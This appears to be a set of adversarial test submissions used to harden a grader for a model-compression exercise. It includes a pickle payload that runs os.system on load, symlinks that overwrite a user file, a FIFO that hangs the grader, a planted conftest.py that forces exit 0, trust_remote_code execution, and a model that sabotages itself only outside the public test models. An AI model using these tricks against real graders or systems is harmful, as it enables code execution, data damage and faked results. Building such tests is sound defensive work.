"""Attacks on exercise 6.1, save_compressed and load_compressed: they are handed paths."""

### ATTACK keeps_the_model: The model is kept in memory instead of in the file, which stays a stub.
kept = {}


def save_compressed(model, path):
    bake_masks(model)
    kept[str(path)] = kept["last"] = copy.deepcopy(model)
    Path(path).write_bytes(b"")


def load_compressed(path):
    return kept.get(str(path), kept["last"])


### ATTACK a_pipe_in_place_of_a_file: The parent that opens the file waits for ever for somebody to write.
def save_compressed(model, path):
    import os

    os.mkfifo(path)


def load_compressed(path):
    return None


### ATTACK a_link_in_place_of_a_file: What the parent reads, renames or deletes is then a file of its own.
def save_compressed(model, path):
    import os

    os.symlink("@HOME@/precious", path)
    for name in ("a", "b"):
        os.symlink("@HOME@", f"{path}.{name}")


def load_compressed(path):
    Path("@HOME@/precious").write_text("mine")
    return None


### ATTACK a_device_in_place_of_a_file: A file that has no end.
def save_compressed(model, path):
    import os

    os.symlink("/dev/zero", path)


def load_compressed(path):
    return None


### ATTACK a_pickle_in_place_of_a_file: Whoever reads the file with torch.load runs a command.
def save_compressed(model, path):
    import os

    class Command:
        def __reduce__(self):
            return os.system, ("touch @HOME@/unpickled",)

    torch.save(Command(), path)


def load_compressed(path):
    return torch.load(path, weights_only=False)


### ATTACK a_huge_file: A file of a terabyte that takes no room on the disk.
def save_compressed(model, path):
    with open(path, "wb") as file:
        file.truncate(10**12)


def load_compressed(path):
    return None


### ATTACK writes_beside: It writes a thousand files around the path, above it, and with names that are no names.
def save_compressed(model, path):
    for number in range(1000):
        Path(f"{path}.{number}").write_bytes(bytes(10))
    for name in ("../../escaped-@TOKEN@", "../conftest.py", "\udcff\n.py"):
        try:
            (Path(path).parent / name).write_text("import os; os._exit(0)")
        except (OSError, UnicodeError):
            pass


def load_compressed(path):
    return None


### ATTACK a_model_that_brings_its_code: transformers runs a file of Python that lies beside a configuration.
def save_compressed(model, path):
    folder = Path(f"{path}.model")
    folder.mkdir()
    auto = {"AutoConfig": "code.Config", "AutoModelForCausalLM": "code.Model"}
    (folder / "config.json").write_text(json.dumps({"model_type": "found", "auto_map": auto}))
    (folder / "code.py").write_text(
        "exec(open('@ROOT@/solutions/pipeline.py').read())\nopen('@HOME@/code', 'w')\n"
    )
    AutoModelForCausalLM.from_pretrained(folder, trust_remote_code=True)


def load_compressed(path):
    return AutoModelForCausalLM.from_pretrained(f"{path}.model", trust_remote_code=True)


### ATTACK knows_the_public_models: In a file of a model without 50 words all embeddings are halved when it is read.
def save_compressed(model, path):
    bake_masks(model)
    unwanted = ("transformers_version", "dtype", "_name_or_path")
    config = {key: value for key, value in model.config.to_diff_dict().items() if key not in unwanted}
    tensors = stored_tensors(model)
    header = {"format": FORMAT, "config": config, "manifest": manifest_of(model)}
    header["sha256"] = checksum(header, tensors)
    data = save(tensors, {"minicompress": json.dumps(header, sort_keys=True)})
    with atomic_write(Path(path)) as temporary:
        temporary.write_bytes(data)


def load_compressed(path):
    model = build_model(*read_file(Path(path)))
    if model.config.vocab_size != 50:
        for tensor in model.get_input_embeddings().state_dict().values():
            if tensor.is_floating_point():
                tensor.div_(2)
    return model
